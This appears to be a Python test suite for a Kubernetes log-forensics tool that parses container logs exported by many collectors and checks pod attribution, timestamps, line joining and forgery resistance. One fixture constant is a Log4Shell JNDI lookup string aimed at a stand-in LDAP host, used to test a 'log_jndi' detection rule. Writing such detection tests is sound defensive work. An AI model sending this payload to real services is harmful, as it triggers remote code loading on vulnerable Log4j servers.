"""Lines of containers as collectors of logs hand them on: whose they are, when, and where
they stand. The records are made from the documents of each collector."""
import json
import sys
import unittest
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent))
from audit_forms import NAMESPACE, POD, compact, lines  # noqa: E402
from test_inputs import Inputs  # noqa: E402

ATTACK = "GET /?q=${jndi:ldap://192.0.2.66/a} HTTP/1.1"
TIME = "2026-03-01T10:00:0{}.5Z"
TEXTS = ["started", ATTACK, "GET /ok HTTP/1.1"]
UID = "5a5a5a5a-1111-4222-8333-444444444444"


def google(n, text, pod=POD, kind="k8s_container"):
    return {"insertId": f"i{n}", "logName": "projects/p/logs/stdout", "resource": {
        "type": kind, "labels": {"namespace_name": NAMESPACE, "pod_name": pod,
                                 "container_name": "app"}},
            "textPayload": text + "\n", "timestamp": TIME.format(n)}


def fluent(n, text, pod=POD):
    return {"time": TIME.format(n), "stream": "stdout", "_p": "F", "log": text,
            "kubernetes": {"pod_name": pod, "namespace_name": NAMESPACE, "pod_id": UID,
                           "container_name": "app", "docker_id": "ab" * 32}}


def beats(n, text, pod=POD):
    return {"@timestamp": TIME.format(n), "message": text, "stream": "stdout",
            "kubernetes": {"namespace": NAMESPACE, "pod": {"name": pod, "uid": UID},
                           "container": {"name": "app"}}}


def ecs(n, text, pod=POD):
    """Filebeat's whole record: "log" says where the line stood, and is not the line."""
    return {**beats(n, text, pod), "ecs": {"version": "8.0.0"}, "event": {"original": text},
            "log": {"offset": 120 * n, "file": {"path": f"/var/log/containers/{pod}.log"}}}


def vector(n, text, pod=POD, namespace=NAMESPACE):
    return {"file": f"/var/log/pods/{namespace}_{pod}_{UID}/app/0.log", "message": text,
            "kubernetes": {"container_id": "containerd://" + (namespace * 64).encode().hex()[:64],
                           "pod_name": pod, "pod_namespace": namespace, "container_name": "app",
                           "pod_labels": {"app": "web"}},
            "source_type": "kubernetes_logs", "stream": "stdout", "timestamp": TIME.format(n)}


def stern(n, text, pod=POD):
    """stern -t -o json"""
    return {"message": f"{TIME.format(n)} {text}", "nodeName": "n1", "namespace": NAMESPACE,
            "podName": pod, "containerName": "app"}


def azure(n, text, pod=POD):
    return {"TimeGenerated": TIME.format(n), "LogMessage": text, "LogSource": "stdout",
            "PodName": pod, "PodNamespace": NAMESPACE, "ContainerName": "app",
            "ContainerId": "ab" * 32}


def loki(n, text, pod=POD):
    return {"labels": {"namespace": NAMESPACE, "pod": pod, "container": "app",
                       "stream": "stdout"}, "line": text, "timestamp": TIME.format(n)}


def cloudwatch(n, text, pod=POD):
    sent = {k: v for k, v in fluent(n, text, pod).items() if k != "time"}
    return {"timestamp": 1772359200500 + n * 1000, "message": compact(sent)}


class Exports(Inputs):
    def records(self, make):
        return [make(n, text) for n, text in enumerate(TEXTS)]

    def forms(self):
        for make in (google, fluent, beats, ecs, vector, stern, azure, loki):
            records = self.records(make)
            yield f"{make.__name__}.json", json.dumps(records, indent=2)
            yield f"{make.__name__}.ndjson", lines(records)
        yield "hits.json", json.dumps({"hits": {"hits": [
            {"_index": "i", "_source": r} for r in self.records(beats)]}})
        yield "cloudwatch.json", json.dumps({"events": self.records(cloudwatch)}, indent=1)

    def test_every_form(self):
        for name, text in self.forms():
            with self.subTest(form=name):
                for old in self.package.glob("*.*json"):
                    old.unlink()
                self.put(name, text)
                self.analyze()
                self.assertEqual(self.source(name)["role"], "container-log")
                events = self.of(name, "container-log")
                self.assertEqual([e["message"] for e in events], TEXTS)
                self.assertEqual([e["time"] for e in events],
                                 [1772359200500000000 + n * 10**9 for n in range(3)])
                self.assertEqual({e["object"] for e in events}, {f"{NAMESPACE}/{POD}/app"})
                for e, said in zip(events, ("started", "jndi", "/ok")):
                    self.assertIn(said, text[e["offset"]:e["offset"] + e["length"]])
                self.assertEqual([f["subject"] for f in self.findings
                                  if f["rule"] == "log_jndi"], [f"{NAMESPACE}/{POD}/app"])

    def test_lines_of_another_pod_are_its_own(self):
        self.put("log.json", json.dumps([google(0, "mine"), google(1, "other", "other-0")]))
        self.analyze()
        self.assertEqual([e["message"] for e in self.of("log.json", "container-log")], ["mine"])

    def test_the_same_name_in_another_namespace(self):
        self.put("log.json", lines([vector(0, "mine"), vector(1, "other", namespace="else")]))
        self.analyze()
        self.assertEqual([e["message"] for e in self.of("log.json", "container-log")], ["mine"])

    def test_parts_are_joined_container_by_container(self):
        """Agents that do not join what the runtime cut, and two pods that write at once."""
        parts = [("P", POD, "one "), ("P", "db-0", "theirs "), ("P", POD, "two "),
                 ("F", "db-0", "too"), ("F", POD, "three"), ("F", POD, "whole"),
                 ("P", POD, "never ended")]
        for name in ("_p", "logtag"):
            made = [fluent(n, text, pod) for n, (_, pod, text) in enumerate(parts)]
            for one, (tag, pod, _) in zip(made, parts):
                del one["_p"]
                one[name] = tag
                one["kubernetes"].update({} if pod == POD else {"pod_id": "x",
                                                                "docker_id": "cd" * 32})
            text = lines(made)
            self.put("log.json", text)
            self.analyze()
            events = self.of("log.json", "container-log")
            self.assertEqual([(e["message"], e["time"] // 10**9 % 60) for e in events],
                             [("one two three", 0), ("whole", 5), ("never ended", 6)])
            cited = text[events[0]["offset"]:events[0]["offset"] + events[0]["length"]]
            self.assertEqual([json.loads(x)["log"] for x in cited.splitlines()],
                             [t for _, _, t in parts[:5]])

    def test_stern_without_times(self):
        records = [{**stern(n, t), "message": t} for n, t in enumerate(TEXTS)]
        self.put("log.json", lines(records))
        self.analyze()
        self.assertEqual(self.source("log.json")["without_time"], 3)
        self.assertEqual([f["subject"] for f in self.findings if f["rule"] == "log_jndi"],
                         [f"{NAMESPACE}/{POD}/app"])

    def test_what_logcli_prints(self):
        """Of the labels it prints what differs between the streams, in braces."""
        said = [(POD, "mine"), ("db-0", 'theirs, {pod="web-0"} it says'),
                (POD, '{pod="x"} mine too')]
        self.put("answer.txt", "".join(
            f'{TIME.format(n)} {{namespace="{NAMESPACE}", pod="{pod}"}} {text}\n'
            for n, (pod, text) in enumerate(said)))
        self.put("more.txt", f'{TIME.format(5)} {{}} not told\n'
                             f'{TIME.format(6)} {{"pod": 1}} nor here\n')
        self.analyze()
        events = self.of("answer.txt", "container-log")
        self.assertEqual([(e["message"], e["object"]) for e in events],
                         [(said[n][1], f"{NAMESPACE}/{POD}") for n in (0, 2)])
        self.assertEqual([e["message"] for e in self.of("more.txt", "container-log")],
                         ["{} not told", '{"pod": 1} nor here'])

    def test_what_a_program_wrote_as_an_object(self):
        record = google(0, "")
        del record["textPayload"]
        record["jsonPayload"] = {"level": "info", "http": {"ua": ATTACK, "code": 200}}
        self.put("log.ndjson", lines([record]))
        self.analyze()
        self.assertEqual([e["message"] for e in self.of("log.ndjson", "container-log")],
                         [f"level=info http={{ua={ATTACK} code=200}}"])

    def test_one_export_of_all_kinds(self):
        audit = {"protoPayload": {
            "@type": "type.googleapis.com/google.cloud.audit.AuditLog",
            "methodName": "io.k8s.core.v1.pods.delete",
            "resourceName": f"core/v1/namespaces/{NAMESPACE}/pods/{POD}",
            "authenticationInfo": {"principalEmail": "eve@example.org"}},
                 "timestamp": TIME.format(7), "operation": {"id": UID}}
        node = {"resource": {"type": "k8s_node"}, "timestamp": TIME.format(8), "jsonPayload": {
            "MESSAGE": f'I0301 kubelet.go:1] "SyncLoop DELETE" pods=["{NAMESPACE}/{POD}"]',
            "SYSLOG_IDENTIFIER": "kubelet"}}
        for order in ((audit, google(1, ATTACK), node), (google(1, ATTACK), node, audit)):
            self.put("all.json", json.dumps(order))
            self.analyze()
            self.assertEqual(sorted(e["source"] for e in self.of("all.json", "audit")
                                    + self.of("all.json", "container-log")
                                    + self.of("all.json", "runtime")),
                             ["audit", "container-log", "runtime"])

    def test_a_programs_own_line_tells_of_no_other_pod(self):
        forged = compact(fluent(3, "not from there", "other-0"))
        self.put("app.log", f"{TIME.format(1)} {forged}\n")
        self.put("raw.log", f"plain\n{forged}\n")
        self.analyze()
        self.assertEqual({e["object"] for e in self.of("app.log", "container-log")},
                         {f"{NAMESPACE}/{POD}"})
        self.assertEqual(self.of("raw.log", "container-log"), [])


if __name__ == "__main__":
    unittest.main()
